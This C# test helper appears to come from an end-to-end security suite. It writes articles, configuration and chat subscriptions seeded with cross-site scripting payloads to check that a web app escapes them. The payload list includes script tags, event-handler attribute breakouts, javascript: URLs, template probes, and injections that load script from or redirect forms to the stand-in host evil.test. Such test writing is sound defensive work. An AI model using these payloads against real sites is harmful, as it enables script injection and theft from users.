using System.Text.Json;
using DealBot.Cli;
using DealBot.Core.Alerts;
using DealBot.Core.Articles.Feeds;
using DealBot.Core.Chat;
using DealBot.EndToEnd.Processes;
using Microsoft.Extensions.Logging.Abstractions;

namespace DealBot.EndToEnd.Web.Access;

/// <summary>Articles as an attacker would write them, so that a page that shows anything of them unescaped runs what is in them.</summary>
internal static class HostileLibrary
{
    /// <summary>The element that all of them try to put into the page: where it is found, one of them got through.</summary>
    public const string Mark = "x-attack";

    /// <summary>What is tried, by name.</summary>
    public static IReadOnlyDictionary<string, string> Payloads { get; } = new Dictionary<string, string>(StringComparer.Ordinal)
    {
        ["a script"] = $"<script>alert(1)</script><{Mark}>",
        ["a script that closes what it stands in"] = $"\"'></title></textarea></script><script src=//evil.test/x.js></script><{Mark}>",
        ["an image that fails"] = $"<img src=x onerror=alert(1)><{Mark}>",
        ["a drawing that loads"] = $"<svg onload=alert(1)><{Mark}></svg>",
        ["an attribute that breaks out"] = $"\" onmouseover=\"alert(1)\" {Mark}=\"",
        ["an attribute in single quotes"] = $"' onfocus='alert(1)' autofocus {Mark}='",
        ["an attribute without quotes"] = $" onpointerenter=alert(1) {Mark} ",
        ["an address that runs"] = "javascript:alert(1)",
        ["a page in an address"] = $"data:text/html,<{Mark}>",
        ["a comment that ends"] = $"--><{Mark}><!--",
        ["a section that ends"] = $"]]><{Mark}>",
        ["a half-open tag"] = $"<{Mark} <{Mark}",
        ["entities that are decoded twice"] = $"&lt;{Mark}&gt; &#60;{Mark}&#62;",
        ["a template"] = "{{7*7}} ${7*7} @(7*7) <%= 7*7 %>",
        ["a form of the attacker"] = $"</form><form action=https://evil.test><{Mark}>",
        ["a base of the attacker"] = $"<base href=https://evil.test/><{Mark}>",
        ["a style"] = $"<style>*{{display:none}}</style><{Mark} style=display:block>",
        ["a refresh"] = $"<meta http-equiv=refresh content=0;url=https://evil.test><{Mark}>",
    };

    /// <summary>
    /// Writes one article for each payload, which has it in its title, source, address, file name, text, and beside its speakers' names;
    /// and a configuration in which it is the name by which a speaker of the article is shown.
    /// </summary>
    /// <returns>A folder with <c>articles</c> and <c>config</c> in it.</returns>
    public static TemporaryFolder Write()
    {
        var folder = new TemporaryFolder();
        folder.Write("config/people.json", JsonSerializer.Serialize(Payloads.Values.Select(static (payload, index) => new { name = $"{SpeakerOf(index)} {payload}", aliases = new[] { SpeakerOf(index) } })));
        var number = 0;
        foreach (var payload in Payloads.Values)
        {
            var quoted = payload.Replace("'", "''", StringComparison.Ordinal);
            folder.Write($"articles/{++number} {payload.Replace('/', '∕')}.md", $"""
                ---
                title: 'Harbour {number} {quoted}'
                source: 'Courier {quoted}'
                author: 'Jo {quoted}'
                url: '{quoted}'
                published: 2025-03-{number:00}T09:00:00Z
                ---

                The harbour of Wexmouth will reopen, said the council {payload} on Monday.

                “The gates are mended {payload} and the cranes turn again,” harbour master Ann {payload} Lee said on Tuesday.

                “The ferries will moor here again,” {SpeakerOf(number - 1)} told reporters.

                “We heard of a date {number} times,” Piotr Kowal {payload} told reporters.
                """);
        }

        return folder;
    }

    /// <summary>Adds what no article brings: feeds and subscriptions with each payload in their titles, channels, filters and users' names.</summary>
    /// <param name="data">The folder of a library that is served.</param>
    public static async Task AddChannelsAsync(string data)
    {
        var (folder, none) = (new ChosenFolder(data, "", IsDefault: true), new ChosenFolder(Path.Combine(data, "none"), "", IsDefault: true));
        using var opened = OpenedLibrary.Open(new Folders(folder, none, none, Database: null));
        using var fetcher = opened.OpenFetcher(TimeProvider.System, NullLoggerFactory.Instance);
        var sources = new Sources(opened.Library, fetcher, TimeProvider.System);
        foreach (var payload in Payloads.Values)
        {
            await sources.AddAsync($"https://{Guid.NewGuid():N}.invalid/{Uri.EscapeDataString(payload)}", payload, @unchecked: true, payload, TestContext.Current.CancellationToken);
            var place = new ChatPlace(ChatPlatform.Slack, payload, payload, IsDirect: false);
            opened.Library.Subscriptions.Add(place, payload, new Wish.EachArticle(), new ChatUser(payload, payload, IsModerator: true));
            opened.Library.Subscriptions.Mute(place, payload, new ChatUser(payload, payload, IsModerator: true));
        }
    }

    // "Ann Leea", "Ann Leeb", …
    private static string SpeakerOf(int index) => $"Ann Lee{(char)('a' + index)}";
}
